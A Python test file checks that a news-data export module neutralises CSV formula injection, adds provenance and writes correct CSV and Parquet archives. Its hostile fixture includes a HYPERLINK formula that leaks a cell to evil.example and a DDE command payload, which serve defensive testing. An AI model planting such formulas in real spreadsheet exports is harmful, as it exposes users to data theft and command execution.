"""lib/store/tables.py: exports with provenance, BOM, and CSV-injection neutralised (a hostile article)."""
from __future__ import annotations

import csv
import io
import zipfile

import pandas as pd
import pytest

from lib.store.corpus import extract_paths
from lib.store.tables import PROVENANCE, dataset_zip, export_csv_bytes, export_frame, frame, neutralize

HOSTILE = """Hostile test article

=HYPERLINK("http://evil.example/?leak="&A1,"Click") said officials on Sunday in Cairo.
+cmd|' /C calc'!A0 was written by Hamas leaders in Gaza on Monday.
-2+3 people were killed in Gaza on Tuesday, the health ministry said.
@SUM(1+1) Egypt's foreign minister met Israeli officials in Cairo on Wednesday.
"""


@pytest.fixture(scope="module")
def hostile_tables(tmp_path_factory):
    d = tmp_path_factory.mktemp("hostile")
    (d / "evil.txt").write_text(HOSTILE, encoding="utf-8")
    (d / "manifest.csv").write_text("article_id,outlet,title,url,published\n"
                                    'evil,=cmd|calc,"@SUM(A1)",=HYPERLINK("x"),2023-03-19\n', encoding="utf-8")
    return extract_paths([str(d)], str(d / "manifest.csv"))


def parse(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM for Excel"
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"))))


def dangerous(cell: str) -> bool:
    return cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"))


@pytest.mark.parametrize("table", ["articles", "mentions", "events", "statements", "casualties"])
def test_hostile_article_exports_no_formula(hostile_tables, table):
    df = hostile_tables[table]
    rows = parse(export_csv_bytes(df, hostile_tables["articles"], table))
    assert len(rows) == len(df) + 1
    assert not [c for r in rows[1:] for c in r if dangerous(c)]


def test_hostile_article_reaches_the_export(hostile_tables):
    """The defence is exercised: hostile cells are present and come out quoted-prefixed."""
    rows = parse(export_csv_bytes(hostile_tables["articles"], hostile_tables["articles"], "articles"))
    cells = [c for r in rows[1:] for c in r]
    assert "'=cmd|calc" in cells and "'@SUM(A1)" in cells and "'=HYPERLINK(\"x\")" in cells
    ments = hostile_tables["mentions"]
    if len(ments):
        sentences = {c for r in parse(export_csv_bytes(ments, hostile_tables["articles"]))[1:] for c in r}
        assert any(c.startswith("'=HYPERLINK") or c.startswith("'+cmd") or c.startswith("'@SUM") or
                   c.startswith("'-2+3") for c in sentences)


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\t=1", "'\t=1"), ("\r=1", "'\r'=1"),
    ("  =1", "'  =1"), ("\uff1d1", "'\uff1d1"), ("Hamas", "Hamas"), ("a=b", "a=b"), ("", ""), (5, 5), (None, None),
    (-3, -3),
])
def test_neutralize(value, expected):
    assert neutralize(value) == expected


def test_export_frame_order_and_provenance():
    ev = pd.DataFrame({"event_id": ["e2", "e1"], "article_id": ["a1", "a2"], "event_type": ["visit", "meeting"],
                       "sentence": ["s2", "s1"], "start": [10, 0], "end": [12, 2]})
    arts = pd.DataFrame({"article_id": ["a1", "a2"], "outlet": ["AFP", "Reuters"], "url": ["u1", "u2"],
                         "published": ["2023-01-01", "2023-02"], "extractor_version": ["0.1.0", "0.1.0"]})
    out = export_frame(ev, arts, "events")
    assert tuple(out.columns[: len(PROVENANCE)]) == PROVENANCE
    assert list(out["event_id"]) == ["e2", "e1"] and list(out["outlet"]) == ["AFP", "Reuters"]
    assert list(out.columns[len(PROVENANCE):len(PROVENANCE) + 2]) == ["event_id", "event_type"]
    assert len(export_frame(ev.iloc[:0], arts, "events")) == 0
    assert parse(export_csv_bytes(None))[0] == list(PROVENANCE)


def test_pandas_string_dtype_is_neutralised():
    df = pd.DataFrame({"sentence": pd.array(["=evil()", "ok"], dtype="string"), "n": [-1, 2]})
    rows = parse(export_csv_bytes(df))
    assert rows[1][rows[0].index("sentence")] == "'=evil()" and rows[1][rows[0].index("n")] == "-1"


def test_dataset_zip_csv_and_parquet(seed_tables):
    z = zipfile.ZipFile(io.BytesIO(dataset_zip(seed_tables, "csv")))
    assert sorted(z.namelist()) == sorted(f"{t}.csv" for t in ("articles", "mentions", "events", "statements",
                                                                "casualties"))
    arts = parse(z.read("articles.csv"))
    assert len(arts) == len(seed_tables["articles"]) + 1
    zp = zipfile.ZipFile(io.BytesIO(dataset_zip(seed_tables, "parquet")))
    back = pd.read_parquet(io.BytesIO(zp.read("mentions.parquet")))
    assert len(back) == len(seed_tables["mentions"])
    assert list(pd.read_parquet(io.BytesIO(zp.read("events.parquet"))).columns) == list(frame("events").columns)


def test_dataset_zip_streamed_parts_equal_the_whole_frame(seed_tables):
    """A table given as Arrow record batches (the app streams the mentions from the store) makes the same CSV and
    the same Parquet rows as the whole frame."""
    import pyarrow as pa

    m = seed_tables["mentions"]
    batches = pa.Table.from_pandas(m, preserve_index=False).to_batches(max_chunksize=7)
    assert len(batches) > 2
    whole = zipfile.ZipFile(io.BytesIO(dataset_zip({"mentions": m}, "csv"))).read("mentions.csv")
    parts = zipfile.ZipFile(io.BytesIO(dataset_zip({"mentions": iter(batches)}, "csv"))).read("mentions.csv")
    assert parts == whole
    back = pd.read_parquet(io.BytesIO(zipfile.ZipFile(io.BytesIO(dataset_zip({"mentions": iter(batches)},
                                                                              "parquet"))).read("mentions.parquet")))
    assert back["mention_id"].tolist() == m["mention_id"].tolist()
    empty = pa.RecordBatch.from_pylist([], schema=batches[0].schema)
    head = zipfile.ZipFile(io.BytesIO(dataset_zip({"mentions": [empty]}, "csv"))).read("mentions.csv")
    assert head == whole.splitlines(keepends=True)[0]


def test_export_of_a_few_rows_joins_the_same_provenance_from_a_category_of_many_articles():
    """A page's few rows whose article id is a category of every stored article: the same file as with plain ids."""
    import pandas as pd

    from lib.store.tables import export_frame

    arts = pd.DataFrame({"article_id": [f"a{i}" for i in range(50)], "outlet": [f"O{i % 3}" for i in range(50)],
                         "url": [f"https://x/{i}" for i in range(50)], "published": "2023-03-19"})
    ev = pd.DataFrame({"event_id": ["e2", "e1"], "article_id": ["a7", "a42"], "sentence": ["s", "t"],
                       "start": [0, 3], "end": [1, 4]})
    plain = export_frame(ev, arts, "events")
    coded = export_frame(ev.astype({"article_id": pd.CategoricalDtype(arts["article_id"])}), arts, "events")
    assert plain["outlet"].tolist() == ["O1", "O0"] and plain["url"].tolist() == ["https://x/7", "https://x/42"]
    assert coded.astype(str).equals(plain.astype(str))
    many = export_frame(pd.concat([ev] * 40, ignore_index=True), arts.head(3), "events")  # more rows than articles
    assert many["outlet"].isna().all() and len(many) == 80  # ids not among the articles: no provenance invented
